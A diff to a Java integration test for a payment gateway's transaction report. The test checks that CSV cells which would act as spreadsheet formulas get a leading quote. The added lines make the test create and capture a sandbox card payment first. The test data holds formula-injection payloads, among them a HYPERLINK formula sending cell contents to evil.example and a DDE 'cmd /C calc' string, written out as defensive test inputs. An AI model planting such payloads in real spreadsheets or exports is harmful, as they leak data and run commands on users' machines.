@@ -213,8 +213,13 @@ class ListsAndReportTest {
     /** Issue 31: a partnerReferenceNo, bank code or order id that a spreadsheet would run landed in the report as is. */
     @Test
     void reportCellsThatWouldBeFormulasStartWithAQuoteInEveryColumn() throws Exception {
+        // demo2's: the lists' tests of demo count demo's payments of the last second.
         String orderId = "-2-3-" + UUID.randomUUID().toString().substring(0, 8);
-        String code = Refunds.capturedByCard(orderId);
+        String code = PaymentApi.initiate(SandboxMerchants.DEMO2, Json.write(Requests.minimal(orderId))).then()
+                .statusCode(200).extract().path("paymentCode");
+        PaymentApi.payByCard(code, "4111 1111 1111 1111").then().statusCode(303);
+        await().atMost(java.time.Duration.ofSeconds(20)).untilAsserted(() -> PaymentApi.status(SandboxMerchants.DEMO2,
+                orderId).then().statusCode(200).body("result.payment.status", equalTo("CAPTURED")));
         String tag = UUID.randomUUID().toString().substring(0, 8);
         List<List<String>> nasty = List.of(
                 List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" + tag, "+1+cmd|' /C calc'!A0" + tag,
@@ -226,12 +231,12 @@ class ListsAndReportTest {
             db.update("""
                     INSERT INTO money_movement (merchant_id, occurred_at, kind, order_id, reference, method, amount,
                         currency, status)
-                    VALUES ('demo', now(), 'DISBURSEMENT_PAID', ?, ?, ?, 10.00, ?, ?)""",
+                    VALUES ('demo2', now(), 'DISBURSEMENT_PAID', ?, ?, ?, 10.00, ?, ?)""",
                     row.get(0), row.get(1), row.get(2), row.get(3), row.get(4));
         }
         String today = LocalDate.now(ZoneId.of("Asia/Jakarta")).toString();
 
-        String csv = Refunds.get(SandboxMerchants.DEMO, "/pg/reports/transactions", "date=" + today).then()
+        String csv = Refunds.get(SandboxMerchants.DEMO2, "/pg/reports/transactions", "date=" + today).then()
                 .statusCode(200).extract().asString();
         List<CSVRecord> rows;
         try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
